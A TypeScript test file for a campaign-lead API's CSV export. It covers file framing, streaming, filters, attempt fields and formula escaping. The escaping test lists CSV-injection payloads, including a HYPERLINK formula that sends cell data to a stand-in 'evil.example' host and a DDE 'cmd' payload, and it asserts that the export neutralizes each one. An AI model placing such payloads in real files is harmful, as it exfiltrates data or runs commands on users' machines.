import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { createLeadRepository } from '../../src/store/leads.js';
import { type ApiHarness, createApiHarness } from '../support/api-harness.js';
import { sampleLead, sampleLeads } from '../support/store-fixtures.js';

const CAMPAIGN = 'campaign-reminders';
const EXPORT = `/api/campaigns/${CAMPAIGN}/leads/export.csv`;

let h: ApiHarness | undefined;
afterEach(async () => {
  await h?.close();
  h = undefined;
});

async function setUp(leads = 0): Promise<ApiHarness> {
  h = await createApiHarness({ leads });
  return h;
}

/**
 * The export's rows as objects by column, after checking its framing: a UTF-8 BOM (which
 * `Response.text()` would strip, hence the bytes) and CRLF line ends.
 */
async function rowsOf(x: ApiHarness, path: string): Promise<Record<string, string>[]> {
  const response = await x.app.request(path);
  expect(response.status).toBe(200);
  const text = Buffer.from(await response.arrayBuffer()).toString('utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  expect(text.endsWith('\r\n')).toBe(true);
  return parse(text.slice(1), { columns: true });
}

describe('exporting leads as CSV', () => {
  it('escapes every cell a spreadsheet would run as a formula', async () => {
    const x = await setUp();
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '+1+cmd|" /C calc"!A0',
      '-2+3',
      '@SUM(A1:A9)',
      '\tTabbed',
      '\rReturned',
      '\uFF1DFULLWIDTH()',
    ];
    await createLeadRepository(x.store.db).insert(
      hostile.map((name, i) =>
        sampleLead(CAMPAIGN, i + 1, { name, customVars: { note: '=1+1', plain: 'ok' } }),
      ),
    );
    const response = await x.call('GET', EXPORT);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="leads-${CAMPAIGN}.csv"`,
    );
    const rows = await rowsOf(x, EXPORT);
    expect(rows.map((row) => row.name)).toEqual(hostile.map((name) => `'${name}`));
    expect(rows.every((row) => row.phone?.startsWith("'+1555020"))).toBe(true);
    // A whole cell is escaped, not its content: the JSON of custom variables starts with `{`.
    expect(rows[0]?.custom_vars).toBe('{"note":"=1+1","plain":"ok"}');
    expect(rows[0]).toMatchObject({ lead_id: 'lead-1', state: 'pending', attempts: '0' });
  });

  it('streams a large campaign in batches, every lead once, filtered as the list is', async () => {
    const x = await setUp(2_345);
    const all = await rowsOf(x, EXPORT);
    expect(all).toHaveLength(2_345);
    expect(new Set(all.map((row) => row.lead_id)).size).toBe(2_345);
    expect(all[0]?.lead_id).toBe('lead-1');
    expect(all.at(-1)?.lead_id).toBe('lead-2345');

    await x.ok('$post', '/leads/:id/ignore', { param: { id: 'lead-7' } });
    const canceled = await rowsOf(x, `${EXPORT}?state=canceled`);
    expect(canceled.map((row) => row.lead_id)).toEqual(['lead-7']);
    expect(canceled[0]?.last_error).toMatch(/canceled by the operator/);
    const search = await rowsOf(x, `${EXPORT}?q=Lead%20234`);
    expect(search.map((row) => row.lead_id)).toEqual([
      'lead-234',
      ...sampleLeads(CAMPAIGN, 6, 2340).map((lead) => lead.id),
    ]);
  });

  it('gives the latest attempt of each lead', async () => {
    h = await createApiHarness({ campaign: { status: 'running' }, leads: 2 });
    const x = h;
    x.scheduler.start();
    await x.quiet();
    await x.advance(5_000);
    await x.hangUp('attempt-1', 17);
    const [busy, dialing] = await rowsOf(x, EXPORT);
    expect(busy).toMatchObject({
      state: 'pending',
      attempts: '1',
      last_outcome: 'busy',
      last_attempt_at: '2026-11-24T14:00:00.000Z',
      last_attempt_duration_s: '5',
      next_attempt_at: expect.stringMatching(/^2026-11-24T14:1/),
    });
    expect(dialing).toMatchObject({
      state: 'dialing',
      last_outcome: '',
      last_attempt_duration_s: '',
    });
  });

  it('refuses bad filters and unknown campaigns', async () => {
    const x = await setUp();
    expect((await x.call('GET', `${EXPORT}?state=ringing`)).status).toBe(400);
    expect((await x.call('GET', '/api/campaigns/nope/leads/export.csv')).status).toBe(404);
  });
});
